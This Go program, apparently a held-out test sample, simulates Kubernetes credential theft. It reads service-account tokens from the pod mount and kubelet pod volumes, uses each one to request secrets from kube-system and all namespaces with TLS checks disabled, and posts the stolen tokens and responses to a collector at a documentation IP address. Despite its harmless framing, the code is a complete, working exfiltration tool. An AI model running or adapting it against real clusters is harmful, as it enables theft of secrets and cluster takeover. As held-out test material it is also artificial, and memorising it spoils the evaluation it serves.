// Held-out stand-in: Kubernetes service-account tokens stolen and used (harmless: whatever
// token the sandbox offers, the simulated API server, a documentation address). Looks for
// tokens in the pod's own mount and in the kubelet's pod volumes (as on a node), then asks the
// API server for the secrets of kube-system and every namespace with each token, and sends
// the tokens and answers to a collector.
package main

import (
	"bytes"
	"crypto/tls"
	"encoding/json"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"time"
)

func tokens() map[string]string {
	found := map[string]string{}
	patterns := []string{
		"/var/run/secrets/kubernetes.io/serviceaccount/token",
		"/run/secrets/kubernetes.io/serviceaccount/token",
		"/var/lib/kubelet/pods/*/volumes/kubernetes.io~projected/*/token",
		"/var/lib/kubelet/pods/*/volumes/kubernetes.io~secret/*/token",
	}
	for _, pattern := range patterns {
		matches, _ := filepath.Glob(pattern)
		for _, path := range matches {
			if data, err := os.ReadFile(path); err == nil && len(data) > 0 {
				found[path] = strings.TrimSpace(string(data))
			}
		}
	}
	return found
}

func apiBase() string {
	host := os.Getenv("KUBERNETES_SERVICE_HOST")
	port := os.Getenv("KUBERNETES_SERVICE_PORT")
	if host == "" {
		host = "kubernetes.default.svc"
	}
	if port == "" {
		port = "443"
	}
	return "https://" + host + ":" + port
}

func main() {
	client := &http.Client{Timeout: 5 * time.Second, Transport: &http.Transport{
		TLSClientConfig: &tls.Config{InsecureSkipVerify: true},
	}}
	report := map[string]any{}
	stolen := tokens()
	report["tokens"] = stolen
	answers := map[string]string{}
	for path, token := range stolen {
		for _, api := range []string{"/api/v1/namespaces/kube-system/secrets", "/api/v1/secrets"} {
			req, _ := http.NewRequest("GET", apiBase()+api, nil)
			req.Header.Set("Authorization", "Bearer "+token)
			resp, err := client.Do(req)
			if err != nil {
				continue
			}
			body, _ := io.ReadAll(io.LimitReader(resp.Body, 8192))
			resp.Body.Close()
			answers[path+" "+api] = string(body)
		}
	}
	report["answers"] = answers
	blob, _ := json.Marshal(report)
	if resp, err := client.Post("http://203.0.113.140:8080/collect", "application/json", bytes.NewReader(blob)); err == nil {
		resp.Body.Close()
	}
}
